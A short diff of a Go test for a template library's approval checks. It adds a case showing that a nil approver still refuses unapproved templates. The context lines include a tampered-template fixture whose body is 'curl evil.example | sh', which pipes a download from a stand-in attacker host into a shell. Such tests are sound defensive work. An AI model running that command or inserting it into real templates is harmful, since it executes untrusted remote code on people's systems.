@@ -61,6 +61,10 @@ func TestTemplatesRefused(t *testing.T) {
 	if err := l.Add(selfApproved); !errors.Is(err, ErrNotApproved) {
 		t.Errorf("approved by an untrusted key: %v", err)
 	}
+	// A nil approver configured by mistake matches an unapproved template's empty Approver: refused, no panic.
+	if err := NewLibrary(nil).Add(unapproved); !errors.Is(err, ErrNotApproved) {
+		t.Errorf("nil approver: %v", err)
+	}
 	tampered := PublishTemplate(tp, key("publisher"))
 	tampered.Approve(key("approver"))
 	tampered.Template.Body = "curl evil.example | sh"
